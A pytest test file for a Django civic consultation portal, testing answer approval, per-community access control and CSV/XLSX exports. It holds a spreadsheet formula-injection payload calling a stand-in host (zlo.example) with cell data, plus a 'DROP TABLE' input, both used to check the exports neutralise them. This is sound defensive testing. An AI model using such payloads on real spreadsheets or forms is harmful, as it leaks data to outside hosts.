"""A KS's editors approve the free-text answers of their consultation for the results page
and export its responses and offers as CSV and XLSX files (issue 19), their own KS's only."""

import csv
import datetime
import io
import re

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from portal.consultations.models import Answer, Offer, Response
from portal.consultations.results import results_of
from tests import builders
from tests.test_admin_language import NOT_WORDS, VisibleText, english_words
from tests.test_consultations import RESPONSES, answer_data

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://zlo.example/?"&A1;"Kliknite")'


@pytest.fixture
def golnik_consultation(golnik_provisioned):
    return builders.consultation(golnik_provisioned, "Posvet o skupnostnem prostoru")


@pytest.fixture
def editor(ks_editor):
    client = Client()
    client.force_login(ks_editor)
    return client


def answers_url(page):
    return reverse("consultation_answers", args=[page.pk])


def export_url(page, kind):
    return reverse(f"consultation_export_{kind}", args=[page.pk])


def answer(consultation, text):
    """A resident's answer sent through the public form, with `text` as the long text."""
    assert Client().post(consultation.url, answer_data(**{"q-potrebe": text})).status_code == 302
    return Answer.objects.get(text=text)


def workshop_note(consultation, text, **fields):
    response = Response.objects.create(
        consultation=consultation,
        source=Response.Source.WORKSHOP,
        people_count=fields.pop("people", 4),
        workshop_date=datetime.date(2017, 11, 7),
        workshop_table="Miza 2",
        workshop_round=1,
    )
    return Answer.objects.create(response=response, theme="food", note_type="need", text=text)


def published_texts(consultation):
    results = results_of(consultation)
    food = next(theme for theme in results.themes if theme.key == "food")
    return results.question("potrebe").texts + [text for _kind, text in food.texts]


def test_the_consultation_editor_leads_to_the_answers(editor, golnik_consultation):
    edit = editor.get(reverse("wagtailadmin_pages:edit", args=[golnik_consultation.pk]))
    assert answers_url(golnik_consultation) in edit.content.decode()


def test_the_answers_list_free_texts_with_their_question_and_theme(editor, golnik_consultation):
    answer(golnik_consultation, "Popravljalnica koles.")
    workshop_note(golnik_consultation, "Skupnostni vrt za blokom", people=6)

    page = editor.get(answers_url(golnik_consultation))

    assert page.status_code == 200
    html = re.sub(r"\s+", " ", page.content.decode())
    assert "Popravljalnica koles." in html
    assert "Kaj v KS najbolj pogrešate?" in html
    assert "Lokalno krožno gospodarstvo" in html
    assert "Skupnostni vrt za blokom" in html
    assert "Zapis z delavnice: potreba, Miza 2, 1. krog, strinjalo se je 6 ljudi" in html
    assert html.count('type="checkbox" name="answer"') == 2
    # The chosen options and the scale are counted, not approved: they are not listed.
    assert "Popoldne" not in html.split("<main", 1)[1]


def test_approving_publishes_the_text_and_hiding_takes_it_back(editor, golnik_consultation):
    bikes = answer(golnik_consultation, "Popravljalnica koles.")
    garden = workshop_note(golnik_consultation, "Skupnostni vrt za blokom")
    answer(golnik_consultation, "Janez Novak iz bloka 3 je glasen.")
    assert published_texts(golnik_consultation) == []

    response = editor.post(
        answers_url(golnik_consultation),
        {"action": "publish", "answer": [str(bikes.pk), str(garden.pk)]},
    )

    assert response.status_code == 302
    listing = editor.get(response["Location"]).content.decode()
    assert "Objavljena sta 2 odgovora." in listing
    assert published_texts(golnik_consultation) == [
        "Popravljalnica koles.",
        "Skupnostni vrt za blokom",
    ]
    published = editor.get(answers_url(golnik_consultation), {"prikaz": "published"})
    assert "Popravljalnica koles." in published.content.decode()
    assert "Janez Novak" not in published.content.decode()
    awaiting = editor.get(answers_url(golnik_consultation), {"prikaz": "awaiting"})
    assert "Janez Novak" in awaiting.content.decode()
    assert "Popravljalnica koles." not in awaiting.content.decode()

    response = editor.post(answers_url(golnik_consultation), {"action": "hide", "answer": bikes.pk})
    assert response.status_code == 302
    assert "Skrit je 1 odgovor." in editor.get(response["Location"]).content.decode()
    assert published_texts(golnik_consultation) == ["Skupnostni vrt za blokom"]


def test_an_empty_selection_says_what_to_do(editor, golnik_consultation):
    answer(golnik_consultation, "Popravljalnica koles.")
    response = editor.post(answers_url(golnik_consultation), {"action": "publish"})
    assert response.status_code == 400
    assert "Najprej označite vsaj en odgovor." in response.content.decode()
    assert not Answer.objects.filter(approved_for_publication=True).exists()


@pytest.mark.parametrize(
    "data",
    [
        {"action": "publish", "answer": ["abc"]},
        {"action": "publish", "answer": ["1; DROP TABLE"]},
        {"action": "publish", "answer": ["9" * 40]},
        {"action": "publish", "answer": ["-1"]},
        {"action": "publish", "answer": ["²"]},
        {"action": "delete", "answer": ["1"]},
        {"answer": ["1"]},
    ],
)
def test_hostile_input_is_refused_with_a_400(editor, golnik_consultation, data):
    answer(golnik_consultation, "Popravljalnica koles.")
    response = editor.post(answers_url(golnik_consultation), data)
    assert response.status_code == 400
    assert not Answer.objects.filter(approved_for_publication=True).exists()


def test_an_answer_of_another_consultation_is_not_touched(
    editor, golnik_consultation, strazisce_provisioned
):
    foreign = builders.consultation(strazisce_provisioned, "Posvet v Stražišču")
    theirs = answer(foreign, "Klopi ob Savi.")
    response = editor.post(
        answers_url(golnik_consultation), {"action": "publish", "answer": theirs.pk}
    )
    assert response.status_code == 302
    assert "Objavljenih je 0 odgovorov." in editor.get(response["Location"]).content.decode()
    theirs.refresh_from_db()
    assert not theirs.approved_for_publication


def test_another_ks_editor_is_refused_everything(golnik_consultation, strazisce_provisioned):
    bikes = answer(golnik_consultation, "Popravljalnica koles.")
    other = Client()
    other.force_login(builders.ks_editor(strazisce_provisioned, "ks-strazisce"))
    assert other.get(answers_url(golnik_consultation)).status_code == 404
    post = other.post(answers_url(golnik_consultation), {"action": "publish", "answer": bikes.pk})
    assert post.status_code == 404
    for kind in ("responses_csv", "offers_csv", "xlsx"):
        assert other.get(export_url(golnik_consultation, kind)).status_code == 404
    bikes.refresh_from_db()
    assert not bikes.approved_for_publication
    edit = other.get(reverse("wagtailadmin_pages:edit", args=[golnik_consultation.pk]))
    assert answers_url(golnik_consultation) not in edit.content.decode()


def test_someone_without_admin_access_is_sent_to_log_in(golnik_consultation):
    response = Client().get(export_url(golnik_consultation, "responses_csv"))
    assert response.status_code == 302
    assert "/login/" in response["Location"]


def offer_data(**fields):
    return answer_data(
        **{
            "q-ponudba-kinds": ["tools", "time"],
            "q-ponudba-text": "Popravim kolo ob sobotah.",
            "q-ponudba-name": "Ana Novak",
            "q-ponudba-email": "ana@example.org",
            "q-ponudba-consent": "on",
            **fields,
        }
    )


def csv_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_the_responses_export_has_a_column_per_question(editor, golnik_consultation):
    Client().post(golnik_consultation.url, offer_data(**{"q-potrebe": HOSTILE}))
    workshop_note(golnik_consultation, "Skupnostni vrt za blokom", people=6)

    response = editor.get(export_url(golnik_consultation, "responses_csv"))

    assert response["Content-Disposition"] == (
        'attachment; filename="posvet-posvet-o-skupnostnem-prostoru-odgovori.csv"'
    )
    headings, online, workshop = csv_rows(response)
    assert headings[1:5] == ["prejeto", "vir", "potrjeno po e-pošti", "število ljudi"]
    assert headings[-4:] == [
        "Bi sodelovali v skupnostnem vrtu?",
        "Kdaj imate čas?",
        "Kako pomembno je energetsko svetovanje v KS?",
        "Kaj v KS najbolj pogrešate?",
    ]
    assert online[-4:] == ["Da", "Popoldne; Ob koncih tedna", "4", "'" + HOSTILE]
    assert workshop[4:11] == [
        "6",
        "07. 11. 2017",
        "Miza 2",
        "1",
        "Prehranska samooskrba in ekološko kmetovanje",
        "potreba",
        "Skupnostni vrt za blokom",
    ]
    assert not any(
        cell.startswith(("=", "+", "-", "@")) for row in (online, workshop) for cell in row
    )


def test_the_offers_export_has_the_contacts(editor, golnik_consultation):
    Client().post(golnik_consultation.url, offer_data(**{"q-ponudba-name": HOSTILE}))

    response = editor.get(export_url(golnik_consultation, "offers_csv"))

    assert "posvet-posvet-o-skupnostnem-prostoru-ponudbe.csv" in response["Content-Disposition"]
    headings, row = csv_rows(response)
    offer = dict(zip(headings, row, strict=True))
    assert offer["vrste pomoči"] == "čas (prostovoljno delo); orodje ali opremo"
    assert offer["kaj in kdaj"] == "Popravim kolo ob sobotah."
    assert offer["ime in priimek"] == "'" + HOSTILE
    assert offer["e-pošta"] == "ana@example.org"
    assert offer["soglaša, da ga pokličemo"] == "da"


def test_the_xlsx_export_opens_with_a_sheet_each(editor, golnik_consultation):
    Client().post(golnik_consultation.url, offer_data(**{"q-potrebe": HOSTILE}))
    workshop_note(golnik_consultation, "Skupnostni vrt za blokom")
    assert Offer.objects.count() == 1

    response = editor.get(export_url(golnik_consultation, "xlsx"))

    assert response.status_code == 200
    assert "spreadsheetml" in response["Content-Type"]
    assert "posvet-posvet-o-skupnostnem-prostoru.xlsx" in response["Content-Disposition"]
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["Odgovori", "Ponudbe"]
    responses = list(book["Odgovori"].values)
    assert len(responses) == 3
    assert responses[1][-1] == "'" + HOSTILE
    assert responses[2][10] == "Skupnostni vrt za blokom"
    assert isinstance(responses[1][1], datetime.datetime)
    offers = list(book["Ponudbe"].values)
    assert offers[1][5] == "Ana Novak"
    for sheet in book.worksheets:
        assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_a_slovenian_consultation_title_makes_an_ascii_file_name(editor, golnik_provisioned):
    page = builders.consultation(golnik_provisioned, "Posvet v Čirčah", slug="posvet-čirče")
    response = editor.get(export_url(page, "responses_csv"))
    assert 'filename="posvet-posvet-circe-odgovori.csv"' in response["Content-Disposition"]


def test_the_responses_listing_links_to_the_answers(editor, golnik_consultation):
    answer(golnik_consultation, "Popravljalnica koles.")
    listing = editor.get(reverse(f"{RESPONSES}:list"))
    assert answers_url(golnik_consultation) in listing.content.decode()


def test_the_answers_view_speaks_slovenian(editor, golnik_consultation):
    answer(golnik_consultation, "Popravljalnica koles.")
    workshop_note(golnik_consultation, "Skupnostni vrt za blokom")
    english = english_words()
    for shown in ("", "awaiting", "published"):
        page = editor.get(answers_url(golnik_consultation), {"prikaz": shown})
        parser = VisibleText()
        parser.feed(page.content.decode())
        text = NOT_WORDS.sub(" ", " ".join(parser.parts))
        words = {match.lower() for match in re.findall(r"[^\W\d_]+", text)}
        assert words & english == set(), shown


def test_an_admin_user_who_may_not_edit_the_consultation_changes_nothing(golnik_consultation):
    """Seeing responses in the admin is not enough: publishing asks for the page's edit right."""
    bikes = answer(golnik_consultation, "Popravljalnica koles.")
    reader = get_user_model().objects.create_user("bralec", password="x")
    reader.user_permissions.add(
        Permission.objects.get(codename="access_admin"),
        Permission.objects.get(codename="view_response"),
    )
    client = Client()
    client.force_login(reader)
    assert client.get(answers_url(golnik_consultation)).status_code == 404
    post = client.post(answers_url(golnik_consultation), {"action": "publish", "answer": bikes.pk})
    assert post.status_code == 404
    assert client.get(export_url(golnik_consultation, "xlsx")).status_code == 404
    bikes.refresh_from_db()
    assert not bikes.approved_for_publication


def test_the_answers_view_asks_the_same_queries_for_more_answers(editor, golnik_consultation):
    def queries():
        with CaptureQueriesContext(connection) as captured:
            assert editor.get(answers_url(golnik_consultation)).status_code == 200
        return len(captured)

    workshop_note(golnik_consultation, "Skupnostni vrt za blokom")
    queries()  # the first request fills the caches of the admin's menus
    few = queries()
    for number in range(5):
        workshop_note(golnik_consultation, f"Zapis {number}")
        answer(golnik_consultation, f"Besedilo {number}")
    assert queries() == few
